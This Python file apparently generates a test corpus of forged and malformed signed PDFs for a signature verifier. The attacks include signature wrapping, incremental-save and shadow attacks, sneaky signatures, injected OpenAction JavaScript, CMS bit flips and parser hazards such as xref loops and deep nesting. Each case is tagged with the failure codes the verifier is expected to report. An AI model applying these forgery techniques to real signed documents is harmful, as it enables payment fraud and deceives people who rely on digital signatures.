"""Attack and broken cases, one or more per published class (PDF-Insecurity: USF, ISA, SWA, shadow, EAA/SSA) and per
parser hazard. Each starts from an intact document made in intact.py and changes exactly what its note says."""
import io
import re

from asn1crypto import cms as acms
from pyhanko.pdf_utils import generic
from pyhanko.pdf_utils.incremental_writer import IncrementalPdfFileWriter
from pyhanko.sign import signers
from pyhanko.sign.fields import FieldMDPAction, FieldMDPSpec, MDPPerm

import pdfraw
from intact import add_text_annotation, fill_amount
from signing import Pki, openssl_cms, pyhanko_sign, run

SCRIPT = "tests/corpus/gen/attacks.py"
DEEP = 100_000
PAGE_BODY = b"/Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Resources << /Font << /F1 5 0 R >> >> /Contents 4 0 R"
FORGED = (b"BT /F1 18 Tf 72 760 Td (Mys.Signing verification corpus - TEST document) Tj ET\n"
          b"BT /F1 14 Tf 72 730 Td (Odeme emri tutari: 9.000,00 TL) Tj ET\n"
          b"BT /F1 14 Tf 72 710 Td (Alici: Attacker Ltd.) Tj ET")


def span(data: bytes, pattern: bytes, index=-1):
    m = list(re.finditer(pattern, data, re.S))[index]
    return m.start(), m.end()


def overwrite(data: bytes, pattern: bytes, replacement: bytes, index=-1) -> bytes:
    """Replaces the match with `replacement` padded with spaces to the same length: no offset moves."""
    a, b = span(data, pattern, index)
    assert len(replacement) <= b - a, (replacement, b - a)
    return data[:a] + replacement.ljust(b - a) + data[b:]


def contents_span(data: bytes, index=-1):
    """Offsets of the hex digits inside the /Contents <...> of a signature dictionary."""
    a, b = span(data, rb"/Contents\s*<([0-9A-Fa-f]{200,})>", index)
    return data.index(b"<", a) + 1, b - 1


def with_cms(data: bytes, cms: bytes, index=-1) -> bytes:
    a, b = contents_span(data, index)
    hexed = cms.hex().upper().encode()
    assert len(hexed) <= b - a
    return data[:a] + hexed.ljust(b - a, b"0") + data[b:]


def cms_of(data: bytes, index=-1) -> bytes:
    a, b = contents_span(data, index)
    raw = bytes.fromhex(data[a:b].decode())
    return acms.ContentInfo.load(raw, strict=False).dump()


def flip_in_cms(data: bytes, locate) -> bytes:
    """Flips one bit of a CMS part (e.g. the signature value) found by `locate(signed_data) -> bytes`."""
    cms = cms_of(data)
    part = locate(acms.ContentInfo.load(cms)["content"])
    at = cms.index(part) + len(part) // 2
    forged = bytearray(cms)
    forged[at] ^= 0x01
    return with_cms(data, bytes(forged))


def sig_dict_object(data: bytes, index=0):
    """(number, body) of the index-th signature dictionary (the one with /Type /Sig)."""
    m = [m for m in re.finditer(rb"(?<![0-9])(\d+) 0 obj\s*(<<.*?)\s*endobj", data, re.S) if b"/ByteRange" in m.group(2)][index]
    return int(m.group(1)), m.group(2)


def page_update(data: bytes, contents: bytes) -> dict:
    """Objects replacing the first page's content stream (an ISA as editors write it)."""
    return {content_number(data): pdfraw.stream(contents)}


def modify_in_signing_revision(pki: Pki, data: bytes, signer: str, field: str, mutate) -> bytes:
    """Sneaky signature: the revision that adds a signature also changes the document."""
    w = IncrementalPdfFileWriter(io.BytesIO(data), strict=False)
    mutate(w)
    meta = signers.PdfSignatureMetadata(field_name=field, md_algorithm="sha256", reason="Corpus sneaky signature")
    return signers.PdfSigner(meta, signer=pki.signer(signer)).sign_pdf(w, existing_fields_only=True).getvalue()


def replace_content(w: IncrementalPdfFileWriter, new: bytes):
    """Swaps the first page's content stream for a new object (what an editor does), inside the writer's revision."""
    page_ref = w.root["/Pages"]["/Kids"].raw_get(0)
    page = page_ref.get_object()
    page["/Contents"] = w.add_object(generic.StreamObject({}, stream_data=new))
    w.update_container(page)


def content_number(data: bytes) -> int:
    from pyhanko.pdf_utils.reader import PdfFileReader
    return PdfFileReader(io.BytesIO(data), strict=False).root["/Pages"]["/Kids"][0].raw_get("/Contents").idnum


def gap_smuggling(pki: Pki, plain: bytes) -> bytes:
    """Signature wrapping into the excluded range of a hand-signed document (its /Contents is the dictionary's last key):
    the gap [a, b) is rewritten as `<cms> >> endobj 4 0 obj ... endobj %filler`; the bytes from b on are untouched."""
    signed = pdfraw.hand_sign(plain, lambda d: openssl_cms(pki, "signer-rsa", d), root=1, page=3, size=7, prev=pdfraw.last_startxref(plain),
                              page_body=PAGE_BODY, catalog_body=b"/Type /Catalog /Pages 2 0 R")
    a, b = contents_span(signed)
    a, b = a - 1, b + 1  # the gap includes < and >
    cms = signed[a + 1:b - 1].rstrip(b"0")
    if len(cms) % 2:
        cms += b"0"
    smuggled = b"\n4 0 obj\n" + pdfraw.stream(FORGED) + b"\nendobj\n"
    head = b"<" + cms + b"> >>\nendobj\n"
    gap = head + smuggled + b"%"
    gap = gap.ljust(b - a, b"x")
    assert len(gap) == b - a
    forged = signed[:a] + gap + signed[b:]
    return pdfraw.append_update(forged, {}, offsets={4: a + len(head) + 1})


def xref_loop(data: bytes) -> bytes:
    """An update whose trailer /Prev points at its own xref section."""
    info_off = pdfraw.hidden_offset(data, 6, 0)
    out = pdfraw.append_update(data, {}, offsets={6: info_off}, prev=9999999999)
    start = pdfraw.last_startxref(out)
    return out.replace(b"/Prev 9999999999", (b"/Prev %d" % start).ljust(16))


def broken_xref_stream(data: bytes) -> bytes:
    """An appended revision whose xref stream claims FlateDecode but holds garbage."""
    facts = pdfraw.trailer_facts(data)
    prev = pdfraw.last_startxref(data)
    body = data if data.endswith(b"\n") else data + b"\n"
    obj_at = len(body)
    new_obj = b"%d 0 obj\n<< /Producer (xref stream attack) >>\nendobj\n" % facts["size"]
    xref_at = obj_at + len(new_obj)
    garbage = bytes((i * 37 + 11) % 256 for i in range(64))
    xref = (b"%d 0 obj\n<< /Type /XRef /Size %d /W [1 4 2] /Index [%d 2] /Root %d 0 R /Prev %d /Filter /FlateDecode /Length %d >>\nstream\n"
            % (facts["size"] + 1, facts["size"] + 2, facts["size"], facts["root"], prev, len(garbage)) + garbage + b"\nendstream\nendobj\n")
    return body + new_obj + xref + b"startxref\n%d\n%%%%EOF\n" % xref_at


def deep_nesting(data: bytes, depth: int) -> bytes:
    """The page content replaced by a stream whose dictionary nests arrays `depth` deep: a parser reads it (and reports the
    content change) or refuses it (unreadable), but must not exhaust its stack."""
    return pdfraw.append_update(data, {content_number(data): pdfraw.stream(FORGED, b"/MysNested " + b"[" * depth + b"]" * depth + b" ")})


def generate(corpus, pki: Pki):
    rsa = corpus.intact["rsa"]

    def attack(file, data, cls, code, note, expect="FAILED", category="attack", signatures=None):
        corpus.add(f"{category}/{file}", data, source=SCRIPT, category=category, expect=expect, cls=cls, code=code, note=note,
                   signatures=signatures)

    # Universal signature forgery: the signature dictionary's values are made useless, in place (no offset moves).
    cms_codes = ["CMS_EMPTY", "CMS_UNREADABLE", "CONTENTS_NOT_HEX", "BYTE_RANGE_INVALID"]
    attack("usf-contents-empty.pdf", overwrite(rsa, rb"/Contents\s*<[0-9A-Fa-f]+>", b"/Contents <>"), "USF", cms_codes,
           "USF: /Contents <> (empty), padded with spaces; /ByteRange unchanged.")
    attack("usf-contents-null.pdf", overwrite(rsa, rb"/Contents\s*<[0-9A-Fa-f]+>", b"/Contents null"), "USF", cms_codes, "USF: /Contents null.")
    a, b = contents_span(rsa)
    attack("usf-contents-zeros.pdf", rsa[:a] + b"0" * (b - a) + rsa[b:], "USF", ["CMS_EMPTY", "CMS_UNREADABLE"], "USF: /Contents all zeros.")
    br = rb"/ByteRange\s*\[[0-9 ]+\] *"
    attack("usf-byterange-missing.pdf", overwrite(rsa, br, b""), "USF", ["BYTE_RANGE_INVALID"], "USF: /ByteRange removed (blanked).")
    attack("usf-byterange-null.pdf", overwrite(rsa, br, b"/ByteRange null"), "USF", ["BYTE_RANGE_INVALID"], "USF: /ByteRange null.")
    attack("usf-byterange-zeros.pdf", overwrite(rsa, br, b"/ByteRange [0 0 0 0]"), "USF", ["BYTE_RANGE_INVALID"], "USF: /ByteRange [0 0 0 0].")
    l1, s2, l2 = (int(x) for x in re.findall(rb"/ByteRange\s*\[0 (\d+) (\d+) (\d+)\]", rsa)[-1])
    attack("usf-byterange-overlapping.pdf", overwrite(rsa, br, b"/ByteRange [0 %d %d %d]" % (s2 + 10, s2, l2)), "USF", ["BYTE_RANGE_INVALID"],
           "USF: the first range runs past the start of the second (overlapping ranges).")

    # Incremental saving attacks.
    attack("isa-page-content-changed.pdf", pdfraw.append_update(rsa, page_update(rsa, FORGED)), "ISA", ["PAGE_CONTENT_CHANGED", "OBJECT_OVERRIDDEN"],
           "ISA: appended revision with a new xref replaces the page content stream (amount and payee).")
    pages2 = b"<< /Type /Pages /Kids [3 0 R 40 0 R] /Count 2 >>"
    attack("isa-page-added.pdf", pdfraw.append_update(rsa, {2: pages2, 40: b"<< " + PAGE_BODY.replace(b"4 0 R", b"41 0 R") + b" >>",
                                                             41: pdfraw.stream(FORGED)}),
           "ISA", ["PAGE_ADDED"], "ISA: appended revision adds a second page.")
    attack("isa-no-xref.pdf", pdfraw.append_update(rsa, page_update(rsa, FORGED), xref=False), "ISA",
           ["UNSIGNED_BYTES_AFTER_LAST_REVISION", "REVISION_INCOMPLETE", "PAGE_CONTENT_CHANGED", "OBJECT_OVERRIDDEN"],
           "ISA: a new definition of the content stream appended with no xref and no trailer (readers that reconstruct show it).")
    appended = pdfraw.append_update(rsa, page_update(rsa, FORGED), xref=False)
    attack("isa-no-new-xref-old-startxref.pdf", appended + b"startxref\n%d\n%%%%EOF\n" % pdfraw.last_startxref(rsa), "ISA",
           ["UNSIGNED_BYTES_AFTER_LAST_REVISION", "REVISION_INCOMPLETE", "PAGE_CONTENT_CHANGED", "OBJECT_OVERRIDDEN"],
           "ISA: a new content stream appended with a new startxref/%%EOF that still names the signed revision's xref (no new xref section).")
    full = pdfraw.append_update(rsa, page_update(rsa, FORGED))
    attack("isa-truncated-update.pdf", full[:-40], "ISA",
           ["REVISION_INCOMPLETE", "UNSIGNED_BYTES_AFTER_LAST_REVISION", "PDF_UNREADABLE", "PAGE_CONTENT_CHANGED", "OBJECT_OVERRIDDEN"],
           "ISA: the appended revision is cut 40 bytes before its end (no startxref/%%EOF).")
    attack("isa-page-content-changed-xref-stream.pdf", pdfraw.append_update(corpus.intact["xref_stream"], page_update(corpus.intact["xref_stream"], FORGED)),
           "ISA", ["PAGE_CONTENT_CHANGED", "OBJECT_OVERRIDDEN"], "ISA on the xref-stream document: classic-xref update replacing the page content.")

    # Signature wrapping: the ByteRange (text kept at the same width) is moved so the second signed part starts later;
    # the space gained, right after /Contents, carries a new content stream.
    sig_start, sig_end = contents_span(rsa)
    shift = 400
    payload = b"\n4 0 obj\n" + pdfraw.stream(FORGED) + b"\nendobj\n"
    payload = payload.ljust(shift, b" ")
    moved = overwrite(rsa, br, b"/ByteRange [0 %d %d %d]" % (l1, s2 + shift, l2))
    swa = moved[:sig_end + 1] + payload + moved[sig_end + 1:]
    attack("swa-shifted-byterange.pdf", swa, "SWA",
           ["BYTE_RANGE_INVALID", "MESSAGE_DIGEST_MISMATCH", "PAGE_CONTENT_CHANGED", "OBJECT_OVERRIDDEN", "PDF_UNREADABLE"],
           "SWA: /ByteRange rewritten (same width) so the second signed range starts 400 bytes later; a new content stream sits in the "
           "gap after /Contents. The xref offsets behind the gap no longer match, so a reader must reconstruct (or refuse).")
    attack("swa-object-in-excluded-gap.pdf", gap_smuggling(pki, corpus.intact["plain"]), "SWA",
           ["BYTE_RANGE_INVALID", "CONTENTS_NOT_HEX", "PAGE_CONTENT_CHANGED", "OBJECT_OVERRIDDEN"],
           "SWA: the signed bytes stay the same (the digest verifies), but the excluded gap now holds a short /Contents, the end of the "
           "signature dictionary and a new content stream object; an xref-only update points the page content at it.")

    # Shadow attacks: the signed revision carries unreferenced objects; a later xref-only update activates them.
    shadow = pyhanko_sign(pki, pdfraw.base_shadow(), "signer-rsa")
    corpus.add("intact/pyhanko-shadow-base.pdf", shadow, source="pyHanko + hand-written base", category="intact", expect="PASSED_OR_INDETERMINATE",
               cls="intact", signatures=1, note="The shadow documents' signed state: hidden object definitions that nothing references yet.")
    codes = ["PAGE_CONTENT_CHANGED", "OBJECT_OVERRIDDEN"]
    attack("shadow-hide.pdf", pdfraw.append_update(shadow, {}, offsets={5: pdfraw.hidden_offset(shadow, 5, 1)}), "SHADOW-HIDE", codes,
           "Shadow hide: xref-only update points object 5 at its hidden signed definition, a white box over amount and payee.")
    attack("shadow-replace.pdf", pdfraw.append_update(shadow, {}, offsets={4: pdfraw.hidden_offset(shadow, 4, 1)}), "SHADOW-REPLACE", codes,
           "Shadow replace: xref-only update points the page content at its hidden signed alternative (other amount, other payee).")
    attack("shadow-hide-and-replace.pdf", pdfraw.append_update(shadow, {}, offsets={3: pdfraw.hidden_offset(shadow, 3, 1),
                                                                                     11: pdfraw.hidden_offset(shadow, 11, 0)}),
           "SHADOW-HIDE-AND-REPLACE", codes + ["ANNOTATION_REMOVED", "FORM_FIELD_CHANGED"],
           "Shadow hide-and-replace: xref-only update swaps the page object for a hidden signed one with other contents.")

    # Certification attacks.
    p1 = pyhanko_sign(pki, corpus.intact["plain"], "signer-rsa", certify=True, docmdp=MDPPerm.NO_CHANGES)
    attack("eaa-annotation-under-p1.pdf", add_text_annotation(p1, "Onaylandi"), "EAA", ["CERTIFICATION_NO_CHANGES_PERMITTED", "ANNOTATION_ADDED"],
           "Evil annotation: a text annotation added after a DocMDP P=1 certification.")
    attack("eaa-annotation-under-p2.pdf", add_text_annotation(corpus.p2_certified, "Onaylandi"), "EAA", ["ANNOTATION_ADDED"],
           "Evil annotation: a text annotation added after a DocMDP P=2 certification (P=2 allows form filling and signing only).")
    ssa = modify_in_signing_revision(pki, corpus.p2_certified, "signer-p256", "Signature2", lambda w: replace_content(w, FORGED))
    attack("ssa-sneaky-signature-under-p2.pdf", ssa, "SSA", ["PAGE_CONTENT_CHANGED", "OBJECT_OVERRIDDEN"],
           "Sneaky signature: the revision that signs the pre-created field under P=2 also replaces the page content.",
           signatures=None)

    # Changes that later revisions must not make.
    num, body = sig_dict_object(rsa)
    rewritten = re.sub(rb"/Reason\s*\([^)]*\)", b"/Reason (Forged reason)", body)
    rewritten = re.sub(rb"/M\s*\([^)]*\)", b"/M (D:20250101000000Z)", rewritten)
    attack("sigdict-rewritten.pdf", pdfraw.append_update(rsa, {num: rewritten}), "SIGDICT-REWRITE", ["SIGNATURE_DICTIONARY_CHANGED", "OBJECT_OVERRIDDEN"],
           "A later revision redefines the signature dictionary with another /Reason and /M (same /Contents and /ByteRange).")
    cat_num, cat_body = pdfraw.trailer_facts(rsa)["root"], None
    cat_body = re.findall(rb"(?<![0-9])%d 0 obj\s*(<<.*?>>)\s*endobj" % cat_num, rsa, re.S)[-1]
    js_catalog = cat_body[:-2] + b" /OpenAction << /S /JavaScript /JS (app.alert\\('Odeme onaylandi'\\);) >> >>"
    attack("openaction-javascript.pdf", pdfraw.append_update(rsa, {cat_num: js_catalog}), "ACTION", ["ACTION_ADDED", "CATALOG_CHANGED"],
           "A later revision adds /OpenAction JavaScript to the catalog.")
    attack("font-changed.pdf", pdfraw.append_update(rsa, {5: pdfraw.FONT.replace(b"Helvetica", b"Courier")}), "RESOURCES",
           ["RESOURCES_CHANGED", "OBJECT_OVERRIDDEN", "PAGE_CONTENT_CHANGED"], "A later revision replaces the page font (Helvetica -> Courier).")
    locked = pyhanko_sign(pki, corpus.intact["form"], "signer-rsa",
                          field_lock=FieldMDPSpec(action=FieldMDPAction.INCLUDE, fields=["amount"]))
    attack("fieldmdp-locked-field-changed.pdf", fill_amount(locked, "9000,00"), "FIELDMDP", ["FIELD_LOCKED", "FORM_FIELD_CHANGED"],
           "The signature locks the field amount (/Lock, FieldMDP Include); a later revision changes its value and appearance.")

    # CMS-level forgeries (hand-built documents: the CMS is whatever OpenSSL makes of the signed bytes).
    plain = corpus.intact["plain"]

    def hand(cms_for, subfilter=b"/adbe.pkcs7.detached"):
        return pdfraw.hand_sign(plain, cms_for, root=1, page=3, size=7, prev=pdfraw.last_startxref(plain), page_body=PAGE_BODY,
                                catalog_body=b"/Type /Catalog /Pages 2 0 R", subfilter=subfilter)

    attack("cms-encapsulated-under-detached.pdf", hand(lambda d: openssl_cms(pki, "signer-rsa", d, detached=False)), "CMS-ENCAPSULATED",
           ["CMS_CONTENT_NOT_DETACHED"], "adbe.pkcs7.detached signature whose CMS encapsulates the signed bytes (eContent present).")
    degenerate = run("openssl", "crl2pkcs7", "-nocrl", "-certfile", pki.pem("signer-rsa"), "-outform", "DER")
    attack("cms-empty-signed-data.pdf", hand(lambda d: degenerate), "CMS-EMPTY", ["CMS_EMPTY", "CMS_UNREADABLE"],
           "/Contents holds a degenerate SignedData: certificates, no SignerInfo.")

    # One-bit flips.
    flipped = bytearray(rsa)
    flipped[rsa.index(b"Odeme emri") + 3] ^= 0x01
    attack("flip-signed-range.pdf", bytes(flipped), "FLIP-SIGNED-RANGE", ["MESSAGE_DIGEST_MISMATCH"], "One bit flipped in the page content (signed range).")
    attack("flip-signature-value.pdf", flip_in_cms(rsa, lambda sd: sd["signer_infos"][0]["signature"].native), "FLIP-SIGNATURE-VALUE",
           ["SIGNATURE_VALUE_INVALID"], "One bit flipped in the SignerInfo signature value.")
    attack("flip-message-digest.pdf",
           flip_in_cms(rsa, lambda sd: [a for a in sd["signer_infos"][0]["signed_attrs"] if a["type"].native == "message_digest"][0]["values"][0].native),
           "FLIP-MESSAGE-DIGEST", ["MESSAGE_DIGEST_MISMATCH", "SIGNATURE_VALUE_INVALID"], "One bit flipped in the messageDigest signed attribute.")

    # Broken or hostile structure: readable or not, never a crash, never a pass.
    either = "FAILED_OR_INDETERMINATE"
    attack("xref-prev-loop.pdf", xref_loop(rsa), "BROKEN-XREF-LOOP", ["PDF_UNREADABLE", "REVISION_INCOMPLETE"],
           "An appended xref section whose /Prev points at itself.", expect=either, category="broken")
    attack("xref-stream-garbage.pdf", broken_xref_stream(rsa), "BROKEN-XREF-STREAM", ["PDF_UNREADABLE", "REVISION_INCOMPLETE", "UNSIGNED_BYTES_AFTER_LAST_REVISION"],
           "An appended revision whose xref stream is not valid Flate data.", expect=either, category="broken")
    unknown = pdfraw.append_update(rsa, {4: pdfraw.stream(b"not really compressed", b"/Filter /MysUnknownDecode ")})
    attack("unknown-filter.pdf", unknown, "BROKEN-UNKNOWN-FILTER", ["PAGE_CONTENT_CHANGED", "OBJECT_OVERRIDDEN", "PDF_UNREADABLE"],
           "A later revision replaces the page content with a stream in an unknown filter.", category="broken")
    attack("deep-nesting.pdf", deep_nesting(rsa, DEEP), "BROKEN-DEEP-NESTING", ["PDF_UNREADABLE", "PAGE_CONTENT_CHANGED", "OBJECT_OVERRIDDEN"],
           f"A later revision replaces the page content with a stream whose dictionary nests arrays {DEEP:,} deep (stack exhaustion hazard).",
           expect=either, category="broken")
    attack("truncated.pdf", rsa[: len(rsa) * 2 // 3], "BROKEN-TRUNCATED", ["PDF_UNREADABLE", "BYTE_RANGE_INVALID", "REVISION_INCOMPLETE", "UNSIGNED_BYTES_AFTER_LAST_REVISION"],
           "The signed file cut at two thirds of its length (a cut before the xref reads as objects without one).", expect=either, category="broken")

    # Detached CAdES over other content.
    tampered = corpus.cades_content.replace(b"content", b"CONTENT", 1)
    (corpus.root / "cades/content-tampered.bin").write_bytes(tampered)
    corpus.add("cades/openssl-rsa-sha256-tampered-content.p7s", openssl_cms(pki, "signer-rsa", corpus.cades_content), source="openssl cms -sign",
               category="attack", expect="FAILED", cls="CADES-CONTENT-CHANGED", code=["MESSAGE_DIGEST_MISMATCH"], content="cades/content-tampered.bin",
               note="Detached CAdES made over cades/content.bin, validated against content-tampered.bin (one word upper-cased).")
